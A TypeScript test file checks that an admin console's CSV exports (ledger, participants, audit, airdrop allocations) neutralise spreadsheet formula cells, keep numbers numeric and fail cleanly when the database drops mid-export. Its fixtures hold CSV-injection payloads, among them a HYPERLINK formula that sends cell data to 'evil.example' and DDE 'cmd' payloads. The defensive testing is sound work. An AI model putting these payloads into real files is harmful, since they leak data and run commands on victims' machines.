import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { DbHandle } from "@/db/client";
import { createTestSession } from "@/features/auth/testing";
import { creditPoints, rowsOf } from "@/features/points/server";
import { logger } from "@/server/logger";
import { parseCsvRecords } from "../../../../test/csv";
import { testDb } from "../../../../test/db";
import { EXPORT_KINDS, type ExportKind, exportCsv } from "./exports";
import { adjustPoints } from "./participants";

/**
 * The console's CSV exports neutralise formula cells (OWASP "CSV Injection"): a text cell a
 * spreadsheet would run as a formula is written with a leading `'`; numbers stay numbers.
 */
let h: DbHandle;
const ADMIN = "0x00000000000000000000000000000000000000a1";
const addr = (n: number) => `0x${n.toString(16).padStart(40, "0")}` as `0x${string}`;
// Text as a quest platform's points-import CSV may bring it (any 1–200 characters are kept).
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
const FORMULAS = [
  HYPERLINK,
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;
let user: { id: string; address: string };

beforeAll(async () => {
  h = await testDb();
  ({ user } = await createTestSession(addr(0x5d1)));
  for (const [i, reason] of [...FORMULAS, "a plain reason - with a dash"].entries())
    await creditPoints(h.db, {
      userId: user.id,
      points: 100,
      reason,
      source: "adjustment",
      sourceKey: `import:f${i}`,
    });
  await creditPoints(h.db, {
    userId: user.id,
    points: 10,
    reason: "=task title",
    source: "task",
    sourceKey: "task:f",
  });
  await adjustPoints(h.db, ADMIN, user.address, { points: -50, reason: "-50 for a duplicate" }, "csv-neg");
  // Cells of the other exports, whatever wrote them: a referral code, an audit target, a round name
  // and a tier name (the console's tiers accept any 1–30 characters).
  await h.db.execute(sql`INSERT INTO users (address, referral_code) VALUES (${addr(0x5d2)}, '=1+1')`);
  await h.db.execute(sql`INSERT INTO audit_log (actor, action, target) VALUES (${ADMIN}, 'test', '@target')`);
  const [round] = rowsOf<{ id: string }>(
    await h.db.execute(sql`
      INSERT INTO airdrop_rounds (name, token_mode, total_amount, snapshot_at, min_points, tier_multipliers, opens_at, deadline, created_by)
      VALUES ('+round', 'deploy', 1, now(), 0, '{}', now(), now() + interval '1 day', ${ADMIN}) RETURNING id`),
  );
  await h.db.execute(sql`
    INSERT INTO airdrop_allocations (round_id, index, address, amount, points, tier, multiplier_bps, proof)
    VALUES (${round?.id}, 0, ${user.address}, 1, 650, '-Gold', 10000, '[]')`);
});
afterAll(() => h?.close());

const csv = async (kind: ExportKind) => {
  const range = { from: new Date(Date.now() - 60_000), to: new Date(Date.now() + 60_000) };
  return parseCsvRecords(await new Response(await exportCsv(h.db, kind, range)).text());
};

describe("CSV exports", () => {
  it("writes a ledger reason that a spreadsheet would run as a formula as text, with a leading '", async () => {
    const ledger = await csv("ledger");
    const reasons = ledger.filter((r) => r.address === user.address).map((r) => r.reason);
    for (const f of FORMULAS) expect(reasons).toContain(`'${f}`);
    expect(reasons).toContain("a plain reason - with a dash");
    expect(reasons).toContain("'-50 for a duplicate");
  });

  it("neutralises formula cells in every export the console offers", async () => {
    const cells: Record<ExportKind, [string, string]> = {
      participants: ["referral_code", "'=1+1"],
      ledger: ["reason", `'${HYPERLINK}`],
      completions: ["reason", "'=task title"],
      audit: ["target", "'@target"],
      allocations: ["round", "'+round"],
    };
    for (const kind of EXPORT_KINDS) {
      const rows = await csv(kind);
      const [column, value] = cells[kind];
      expect(
        rows.map((r) => r[column]),
        kind,
      ).toContain(value);
      // A cell starts like a formula only when it is a number (a negative adjustment's points).
      for (const row of rows)
        for (const [k, v] of Object.entries(row))
          if (FORMULA_START.test(v)) expect(`${kind}.${k}=${v}`).toMatch(/=-\d+$/);
    }
    expect((await csv("allocations"))[0]?.tier).toBe("'-Gold");
  });

  it("keeps numbers numeric: a negative adjustment's points are -50, not '-50", async () => {
    const ledger = await csv("ledger");
    const adjustment = ledger.find((r) => r.reason === "'-50 for a duplicate");
    expect(adjustment?.points).toBe("-50");
    expect(Number(adjustment?.id)).toBeGreaterThan(0);
    const people = await csv("participants");
    expect(people.find((r) => r.address === user.address)?.points).toBe(
      String(FORMULAS.length * 100 + 100 + 10 - 50),
    );
    const [allocation] = await csv("allocations");
    expect(allocation).toMatchObject({ index: "0", amount: "1", points: "650", multiplier_bps: "10000" });
  });
});

describe("an export whose database fails mid-stream", () => {
  it("errors the stream (the download fails) instead of ending a truncated CSV, and logs it", async () => {
    // Two pages of audit rows, then the second page's query fails.
    await h.db.execute(sql`INSERT INTO audit_log (actor, action, target)
      SELECT ${ADMIN}, 'test.bulk', 'row:' || g FROM generate_series(1, 2100) g`);
    const range = { from: new Date(Date.now() - 60_000), to: new Date(Date.now() + 60_000) };
    const execute = h.db.execute.bind(h.db);
    let calls = 0;
    const spy = vi.spyOn(h.db, "execute").mockImplementation(((q: Parameters<typeof execute>[0]) => {
      calls += 1;
      if (calls === 2) return Promise.reject(new Error("connection lost (test)"));
      return execute(q);
    }) as typeof h.db.execute);
    const error = vi.spyOn(logger, "error").mockImplementation(() => undefined);
    try {
      const stream = await exportCsv(h.db, "audit", range);
      let failure: unknown = null;
      let bytes = 0;
      try {
        const reader = stream.getReader();
        for (;;) {
          const { done, value } = await reader.read();
          if (done) break;
          bytes += value.byteLength;
        }
      } catch (err) {
        failure = err;
      }
      expect(calls).toBe(2);
      expect(failure).toBeInstanceOf(Error);
      expect((failure as Error).message).toMatch(/connection lost/);
      expect(bytes).toBeGreaterThan(0);
      expect(error).toHaveBeenCalledWith(
        expect.objectContaining({ kind: "audit" }),
        expect.stringMatching(/export failed/),
      );
    } finally {
      spy.mockRestore();
      error.mockRestore();
    }
  });
});
